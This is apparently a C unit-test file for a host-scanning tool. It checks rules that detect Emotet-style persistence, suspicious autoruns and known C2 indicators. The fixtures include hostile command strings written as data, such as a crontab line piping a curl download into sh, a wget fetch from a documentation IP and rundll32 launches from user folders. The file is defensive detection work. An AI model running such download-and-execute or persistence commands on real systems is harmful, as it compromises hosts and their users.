/* test-host-rules.c — every rule over a snapshot, each with cases that must and must not fire
 *
 * The snapshots are built by hand, the way a probe would fill them, so each rule is tested
 * apart from the probes. */
#define G_LOG_DOMAIN "test-host-rules"

#include "config.h"

#include <string.h>

#include "taiou.h"

#define SERIAL 0x12345678u           /* EmoCheck scan_v1 names it "ptrthunk.exe" */
#define DAY_US (G_USEC_PER_SEC * G_GINT64_CONSTANT (86400))
#define LOCAL "C:\\Users\\bob\\AppData\\Local\\"

static TaiouHostSnapshot *
windows_snapshot (void)
{
  TaiouHostSnapshot *snapshot = taiou_host_snapshot_new (TAIOU_HOST_OS_WINDOWS, "PC-01");

  taiou_host_snapshot_set_volume_serial (snapshot, SERIAL);
  snapshot->is_admin_view = TRUE;
  taiou_host_snapshot_add_file (snapshot, TAIOU_FILE_AREA_SYSTEM32, NULL,
                                "C:\\Windows\\System32\\wmiprvse.exe")->size = 500000;
  taiou_host_snapshot_add_file (snapshot, TAIOU_FILE_AREA_SYSTEM32, NULL,
                                "C:\\Windows\\System32\\shell32.dll")->size = 7000000;
  taiou_host_snapshot_add_known_folder (snapshot, "Microsoft");
  taiou_host_snapshot_add_known_folder (snapshot, "Packages");
  return snapshot;
}

static TaiouFileInfo *
add_local_file (TaiouHostSnapshot *snapshot,
                const char        *relative,
                guint64            size,
                gboolean           pe)
{
  g_autofree char *display = g_strconcat (LOCAL, relative, NULL);
  TaiouFileInfo *file = taiou_host_snapshot_add_file (snapshot, TAIOU_FILE_AREA_LOCAL_APPDATA,
                                                      NULL, display);

  file->user = g_strdup ("bob");
  file->size = size;
  file->mtime_us = G_GINT64_CONSTANT (1600000000) * G_USEC_PER_SEC;
  file->folder_mtime_us = file->mtime_us + DAY_US;
  if (pe)
    {
      memcpy (file->head, "MZ\x90\0", 4);
      file->head_length = 4;
    }
  return file;
}

static void
add_run_value (TaiouHostSnapshot *snapshot,
               const char        *name,
               const char        *command)
{
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_RUN_VALUE,
                                   "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                                   name, command, "bob");
}

/* The findings of @rule_id; the array owns nothing. */
static GPtrArray *
findings_of (GPtrArray  *findings,
             const char *rule_id)
{
  GPtrArray *matching = g_ptr_array_new ();

  for (guint i = 0; i < findings->len; i++)
    {
      TaiouFinding *finding = findings->pdata[i];

      g_assert_nonnull (finding->reason_ja);
      g_assert_nonnull (finding->reason_en);
      if (g_str_equal (finding->rule_id, rule_id))
        g_ptr_array_add (matching, finding);
    }
  return matching;
}

static GPtrArray *
check (TaiouHostSnapshot *snapshot,
       TaiouIocSet       *iocs)
{
  return taiou_host_rules_check (snapshot, iocs);
}

static void
test_v1_running_process (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) v1 = NULL;
  TaiouFinding *finding;

  taiou_host_snapshot_add_process (snapshot, 4, "System", NULL, NULL);
  taiou_host_snapshot_add_process (snapshot, 912, "PtrThunk.exe",
                                   "C:\\Windows\\SysWOW64\\ptrthunk.exe", NULL);
  findings = check (snapshot, NULL);
  v1 = findings_of (findings, "emocheck.v1-serial-name");
  g_assert_cmpuint (v1->len, ==, 1);
  finding = v1->pdata[0];
  g_assert_cmpint (finding->score, ==, 100);
  g_assert_cmpint (taiou_finding_get_severity (finding), ==, TAIOU_SEVERITY_ALERT);
  g_assert_cmpstr (finding->object, ==, "pid 912 C:\\Windows\\SysWOW64\\ptrthunk.exe");
  g_assert_nonnull (strstr (finding->evidence, "12345678"));
}

static void
test_v1_other_serial_or_no_serial (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(TaiouHostSnapshot) linux_snapshot = taiou_host_snapshot_new (TAIOU_HOST_OS_LINUX,
                                                                         "srv");
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) linux_findings = NULL;

  /* "etwwce.exe" belongs to serial DEADBEEF, not to this volume. */
  taiou_host_snapshot_add_process (snapshot, 912, "etwwce.exe", NULL, NULL);
  findings = check (snapshot, NULL);
  g_assert_cmpuint (findings->len, ==, 0);

  /* Without a serial the name cannot be derived: nothing fires. */
  taiou_host_snapshot_add_process (linux_snapshot, 912, "ptrthunk.exe", NULL, NULL);
  linux_findings = check (linux_snapshot, NULL);
  g_assert_cmpuint (linux_findings->len, ==, 0);
}

static void
test_v1_offline_file_and_autorun (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) v1 = NULL;

  taiou_host_snapshot_add_file (snapshot, TAIOU_FILE_AREA_SYSTEM_FOLDER, NULL,
                                "C:\\Windows\\SysWOW64\\ptrthunk\\ptrthunk.exe");
  add_run_value (snapshot, "ptrthunk", "C:\\Windows\\SysWOW64\\ptrthunk\\ptrthunk.exe");
  /* A name that merely ends in it is another program. */
  add_run_value (snapshot, "other", "C:\\Tools\\notptrthunk.exe");
  findings = check (snapshot, NULL);
  v1 = findings_of (findings, "emocheck.v1-serial-name");
  g_assert_cmpuint (v1->len, ==, 2);
  g_assert_cmpint (((TaiouFinding *) v1->pdata[0])->score, ==, 90);
}

static GBytes *
xor_with_serial (const char *name)
{
  gsize length = strlen (name);
  guint8 *data = g_malloc (length);

  for (gsize i = 0; i < length; i++)
    data[i] = (guint8) name[i] ^ (guint8) (SERIAL >> (8 * (i % 4)));
  return g_bytes_new_take (data, length);
}

static void
test_v2_explorer_value (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GBytes) data = xor_with_serial ("hidden");
  g_autoptr(GBytes) wrong_name = xor_with_serial ("other");
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) v2 = NULL;
  const char *key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer";
  gboolean registry = FALSE, process = FALSE;

  taiou_host_snapshot_add_explorer_value (snapshot, "bob", key, "12345678", data);
  /* A value named otherwise is some other program's. */
  taiou_host_snapshot_add_explorer_value (snapshot, "bob", key, "ShellState", wrong_name);
  taiou_host_snapshot_add_process (snapshot, 77, "hidden.exe", NULL, NULL);
  taiou_host_snapshot_add_process (snapshot, 78, "other.exe", NULL, NULL);
  findings = check (snapshot, NULL);
  v2 = findings_of (findings, "emocheck.v2-explorer-value");
  g_assert_cmpuint (v2->len, ==, 2);
  for (guint i = 0; i < v2->len; i++)
    {
      TaiouFinding *finding = v2->pdata[i];

      if (finding->score == 90)
        {
          registry = TRUE;
          g_assert_true (g_str_has_suffix (finding->object, "Explorer\\12345678"));
          g_assert_nonnull (strstr (finding->evidence, "hidden.exe"));
        }
      else
        {
          process = TRUE;
          g_assert_cmpint (finding->score, ==, 100);
          g_assert_cmpstr (finding->object, ==, "pid 77 hidden.exe");
        }
    }
  g_assert_true (registry && process);
}

static void
test_v3_keyword_folder (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) v3 = NULL;
  TaiouFinding *started = NULL, *alone = NULL;

  add_local_file (snapshot, "wmiprvse\\wmiprvse.exe", 300000, TRUE);
  add_run_value (snapshot, "wmiprvse", "\"%LOCALAPPDATA%\\wmiprvse\\wmiprvse.exe\"");
  add_local_file (snapshot, "shell32\\shell32.exe", 300000, TRUE);
  findings = check (snapshot, NULL);
  v3 = findings_of (findings, "emocheck.v3-localappdata-keyword");
  g_assert_cmpuint (v3->len, ==, 2);
  for (guint i = 0; i < v3->len; i++)
    {
      TaiouFinding *finding = v3->pdata[i];

      if (strstr (finding->object, "wmiprvse") != NULL)
        started = finding;
      else
        alone = finding;
    }
  g_assert_nonnull (started);
  g_assert_cmpint (started->score, ==, 100);
  g_assert_cmpstr (started->object, ==, LOCAL "wmiprvse\\wmiprvse.exe");
  g_assert_nonnull (strstr (started->evidence, "Run\\wmiprvse"));
  g_assert_nonnull (alone);
  g_assert_cmpint (alone->score, ==, 60);
}

static void
test_v3_false_positive_filters (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;

  /* Under 10,000 bytes. */
  add_local_file (snapshot, "wmiprvse\\wmiprvse.exe", 9999, TRUE);
  /* The same size as System32's copy: a legitimate copy. */
  add_local_file (snapshot, "shell32\\shell32.exe", 7000000, TRUE);
  /* Not named after anything in System32. */
  add_local_file (snapshot, "zoomit\\zoomit.exe", 300000, TRUE);
  /* A keyword folder holding another name. */
  add_local_file (snapshot, "wmiprvse\\helper.exe", 300000, TRUE);
  add_run_value (snapshot, "wmiprvse", LOCAL "wmiprvse\\wmiprvse.exe");
  findings = check (snapshot, NULL);
  g_assert_cmpuint (findings->len, ==, 0);
}

static void
test_v4_rundll32_autorun (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) v4 = NULL;
  TaiouFileInfo *system;

  add_local_file (snapshot, "Xqzvbn\\qwerty.tyu", 400000, TRUE);
  add_run_value (snapshot, "Plmoknijb",
                 "C:\\Windows\\SysWOW64\\rundll32.exe \"C:\\Users\\bob\\AppData\\Local\\Xqzvbn"
                 "\\qwerty.tyu\",DllRegisterServer");
  system = taiou_host_snapshot_add_file (snapshot, TAIOU_FILE_AREA_SYSTEM_FOLDER, NULL,
                                         "C:\\Windows\\SysWOW64\\Abcdefg\\hijkl.mno");
  memcpy (system->head, "MZ", 2);
  system->head_length = 2;
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_SERVICE,
                                   "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Abcdefg",
                                   "Abcdefg",
                                   "%SystemRoot%\\SysWOW64\\rundll32.exe "
                                   "%SystemRoot%\\SysWOW64\\Abcdefg\\hijkl.mno,Control_RunDLL",
                                   NULL);
  findings = check (snapshot, NULL);
  v4 = findings_of (findings, "emocheck.v4-random-dll");
  g_assert_cmpuint (v4->len, ==, 2);
  for (guint i = 0; i < v4->len; i++)
    g_assert_cmpint (((TaiouFinding *) v4->pdata[i])->score, ==, 100);
}

static void
test_v4_negatives (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) v4 = NULL;

  add_local_file (snapshot, "Microsoft\\abcdef.tyu", 400000, TRUE);  /* a known folder */
  add_local_file (snapshot, "Xqzvbn\\qwerty.dll", 400000, TRUE);     /* .dll is not v4's */
  add_local_file (snapshot, "Xqzvb2\\qwerty.tyu", 400000, TRUE);     /* digit in folder */
  add_local_file (snapshot, "Xqzvbn\\qw.tyu", 400000, TRUE);         /* name too short */
  add_local_file (snapshot, "Abcdef\\qwerty.dat", 400000, FALSE);    /* not a program */
  /* rundll32 without an export after the path is not the pattern. */
  add_local_file (snapshot, "Lmnopq\\rstuvw.xyz", 400000, TRUE);
  add_run_value (snapshot, "Lmnopqrst",
                 "rundll32.exe C:\\Users\\bob\\AppData\\Local\\Lmnopq\\rstuvw.xyz");
  findings = check (snapshot, NULL);
  v4 = findings_of (findings, "emocheck.v4-random-dll");
  /* Only the last one is left, and only as a file: nothing starts it the v4 way. */
  g_assert_cmpuint (v4->len, ==, 1);
  g_assert_cmpstr (((TaiouFinding *) v4->pdata[0])->object, ==, LOCAL "Lmnopq\\rstuvw.xyz");
  g_assert_cmpint (((TaiouFinding *) v4->pdata[0])->score, ==, 70);
}

static void
test_v5_seven_days (void)
{
  struct { gint64 delay_ms; gboolean pe; gboolean fires; } cases[] = {
    { 604800000, TRUE, TRUE },
    { 604799700, TRUE, TRUE },
    { 604800200, TRUE, TRUE },
    { 604799600, TRUE, FALSE },
    { 604800300, TRUE, FALSE },
    { 604800000, FALSE, FALSE },
    { 86400000, TRUE, FALSE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
      g_autoptr(GPtrArray) findings = NULL;
      g_autoptr(GPtrArray) v5 = NULL;
      TaiouFileInfo *file = add_local_file (snapshot, "Folder1\\a1.bin", 1000, cases[i].pe);

      file->folder_mtime_us = file->mtime_us + cases[i].delay_ms * 1000;
      findings = check (snapshot, NULL);
      v5 = findings_of (findings, "emocheck.v5-seven-days");
      g_assert_cmpuint (v5->len, ==, cases[i].fires ? 1 : 0);
    }
}

static void
test_windows_autorun_launcher (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = windows_snapshot ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) launchers = NULL;
  TaiouFinding *finding;

  add_run_value (snapshot, "Teams",
                 "\"C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\Update.exe\" --processStart");
  add_run_value (snapshot, "SecurityHealth",
                 "%windir%\\system32\\SecurityHealthSystray.exe");
  add_run_value (snapshot, "ctfmon", "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\x.dll");
  add_run_value (snapshot, "Xrjv",
                 "\"C:\\Windows\\System32\\regsvr32.exe\" /s \"%LOCALAPPDATA%\\Temp\\abc.ocx\"");
  findings = check (snapshot, NULL);
  launchers = findings_of (findings, "autorun.launcher-user-folder");
  g_assert_cmpuint (launchers->len, ==, 1);
  finding = launchers->pdata[0];
  g_assert_cmpint (finding->score, ==, 70);
  g_assert_true (g_str_has_suffix (finding->object, "Run\\Xrjv"));
  g_assert_nonnull (strstr (finding->reason_ja, "regsvr32"));
}

static void
test_linux_autoruns (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = taiou_host_snapshot_new (TAIOU_HOST_OS_LINUX, "srv");
  g_autoptr(GPtrArray) findings = NULL;

  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_XDG_AUTOSTART, "/a.desktop",
                                   "a.desktop", "/tmp/.x/updater --daemon", "alice");
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_CRONTAB, "/cron/alice", "line 3",
                                   "curl -s http://198.51.100.9/x | sh", "alice");
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_XDG_AUTOSTART, "/b.desktop",
                                   "b.desktop", "nm-applet", NULL);
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_CRONTAB, "/etc/crontab", "line 1",
                                   "cd / && run-parts --report /etc/cron.hourly", NULL);
  findings = check (snapshot, NULL);
  g_assert_cmpuint (findings->len, ==, 2);
  /* Highest score first. */
  g_assert_cmpstr (((TaiouFinding *) findings->pdata[0])->rule_id, ==,
                   "autorun.download-and-run");
  g_assert_cmpstr (((TaiouFinding *) findings->pdata[1])->rule_id, ==,
                   "autorun.scratch-folder");
}

static TaiouIocSet *
load_iocs (void)
{
  TaiouIocSet *iocs = taiou_ioc_set_new ();
  const char *c2 = "203.0.113.50;90\n198.51.100.0/24;75\nbad-cdn.example\n";
  const char *names = "# Fake updater\n/\\.cache/evil$;70\n";
  g_autoptr(GError) error = NULL;
  g_autoptr(TaiouIocLoadReport) c2_report = NULL;
  g_autoptr(TaiouIocLoadReport) name_report = NULL;

  c2_report = taiou_ioc_set_load_data (iocs, "c2.txt", c2, strlen (c2),
                                       TAIOU_IOC_FORMAT_LOKI_C2, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (c2_report->n_bad, ==, 0);
  name_report = taiou_ioc_set_load_data (iocs, "filename.txt", names, strlen (names),
                                         TAIOU_IOC_FORMAT_LOKI_FILENAME, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (name_report->n_bad, ==, 0);
  return iocs;
}

static void
test_ioc_connections_autoruns_processes (void)
{
  g_autoptr(TaiouHostSnapshot) snapshot = taiou_host_snapshot_new (TAIOU_HOST_OS_LINUX, "srv");
  g_autoptr(TaiouIocSet) iocs = load_iocs ();
  g_autoptr(GPtrArray) findings = NULL;
  g_autoptr(GPtrArray) connections = NULL;
  g_autoptr(GPtrArray) autoruns = NULL;
  g_autoptr(GPtrArray) processes = NULL;
  TaiouFinding *connection;

  taiou_host_snapshot_add_connection (snapshot, "tcp", "10.0.2.15", 50000, "203.0.113.50", 8080,
                                      "ESTABLISHED")->pid = 100;
  taiou_host_snapshot_add_connection (snapshot, "tcp", "10.0.2.15", 50001, "192.0.2.1", 443,
                                      "ESTABLISHED");
  /* A listening socket has no peer to speak of. */
  taiou_host_snapshot_add_connection (snapshot, "tcp", "203.0.113.50", 22, "0.0.0.0", 0,
                                      "LISTEN");
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_SYSTEMD_USER, "/u/x.service",
                                   "x.service", "/usr/bin/wget -q -O- 198.51.100.77", "alice");
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_SYSTEMD_USER, "/u/y.service",
                                   "y.service", "/usr/bin/ping bad-cdn.example", "alice");
  taiou_host_snapshot_add_autorun (snapshot, TAIOU_AUTORUN_SYSTEMD_USER, "/u/z.service",
                                   "z.service", "/usr/bin/ping good.example 192.0.2.1", "alice");
  taiou_host_snapshot_add_process (snapshot, 100, "evil", "/home/a/.cache/evil", NULL);
  taiou_host_snapshot_add_process (snapshot, 101, "bash", "/usr/bin/bash", NULL);
  findings = check (snapshot, iocs);

  connections = findings_of (findings, "ioc.c2-connection");
  g_assert_cmpuint (connections->len, ==, 1);
  connection = connections->pdata[0];
  g_assert_cmpstr (connection->object, ==, "203.0.113.50:8080");
  g_assert_cmpint (connection->score, ==, 90);
  g_assert_nonnull (strstr (connection->evidence, "pid 100"));

  autoruns = findings_of (findings, "ioc.autorun-c2");
  g_assert_cmpuint (autoruns->len, ==, 2);
  /* Highest first: the domain carries Loki's default score, the network its own 75. */
  g_assert_cmpstr (((TaiouFinding *) autoruns->pdata[0])->object, ==, "/u/y.service (y.service)");
  g_assert_cmpstr (((TaiouFinding *) autoruns->pdata[1])->object, ==, "/u/x.service (x.service)");
  g_assert_cmpint (((TaiouFinding *) autoruns->pdata[1])->score, ==, 75);

  processes = findings_of (findings, "ioc.process-filename");
  g_assert_cmpuint (processes->len, ==, 1);
  g_assert_cmpstr (((TaiouFinding *) processes->pdata[0])->object, ==,
                   "pid 100 /home/a/.cache/evil");
  g_assert_cmpuint (findings->len, ==, 4);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/host-rules/v1/running-process", test_v1_running_process);
  g_test_add_func ("/host-rules/v1/negatives", test_v1_other_serial_or_no_serial);
  g_test_add_func ("/host-rules/v1/offline", test_v1_offline_file_and_autorun);
  g_test_add_func ("/host-rules/v2/explorer-value", test_v2_explorer_value);
  g_test_add_func ("/host-rules/v3/keyword-folder", test_v3_keyword_folder);
  g_test_add_func ("/host-rules/v3/false-positive-filters", test_v3_false_positive_filters);
  g_test_add_func ("/host-rules/v4/rundll32-autorun", test_v4_rundll32_autorun);
  g_test_add_func ("/host-rules/v4/negatives", test_v4_negatives);
  g_test_add_func ("/host-rules/v5/seven-days", test_v5_seven_days);
  g_test_add_func ("/host-rules/autorun/windows-launcher", test_windows_autorun_launcher);
  g_test_add_func ("/host-rules/autorun/linux", test_linux_autoruns);
  g_test_add_func ("/host-rules/ioc", test_ioc_connections_autoruns_processes);
  return g_test_run ();
}
